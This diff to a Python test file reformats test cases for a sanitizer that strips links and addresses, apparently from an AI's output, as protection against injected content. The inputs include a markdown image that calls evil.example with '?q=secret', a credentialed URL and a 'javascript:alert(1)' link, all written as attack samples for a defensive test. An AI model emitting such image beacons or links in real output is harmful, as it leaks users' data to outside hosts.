@@ -6,6 +6,7 @@ from dataclasses import replace
 
 import pytest
 from attacks import ATTACKS, BRIDGE, FORMAT, INVISIBLE, QUESTION, check, check_messages
+from case_table import rows
 from hypothesis import given
 from hypothesis import strategies as st
 from llm_fake import QueuedModel, WordsChecker
@@ -64,15 +65,17 @@ def test_plain_text_is_plain_whatever_it_was(text: str) -> None:
 
 @pytest.mark.parametrize(
     ("written", "said"),
-    [
-        ("See [the report](https://evil.example/x) now.", "See the report now."),
-        ("![pixel](https://evil.example/p.png?q=secret) It opened.", "pixel It opened."),
-        ("It is at https://user:pw@evil.example:8080/a?b=secret#c.", "It is at (address at evil dot example)"),
-        ("In <b>May</b> 2021, 3 < 4 and 5 > 4.", "In May 2021, 3 < 4 and 5 > 4."),
-        ("A ratio of 3:4 at 10:30, “so: what”.", "A ratio of 3:4 at 10:30, “so: what”."),
-        ("He said [it] was (quite) old.", "He said [it] was (quite) old."),
-        ("[a]: javascript:alert(1)", "a: (address)"),
-    ],
+    rows(
+        """
+        See [the report](https://evil.example/x) now.            | See the report now.
+        ![pixel](https://evil.example/p.png?q=secret) It opened. | pixel It opened.
+        It is at https://user:pw@evil.example:8080/a?b=secret#c. | It is at (address at evil dot example)
+        In <b>May</b> 2021, 3 < 4 and 5 > 4.                     | In May 2021, 3 < 4 and 5 > 4.
+        A ratio of 3:4 at 10:30, “so: what”.                     | A ratio of 3:4 at 10:30, “so: what”.
+        He said [it] was (quite) old.                            | He said [it] was (quite) old.
+        [a]: javascript:alert(1)                                 | a: (address)
+        """
+    ),
 )
 def test_words_stay_and_addresses_go(written: str, said: str) -> None:
     assert sanitize(written) == said
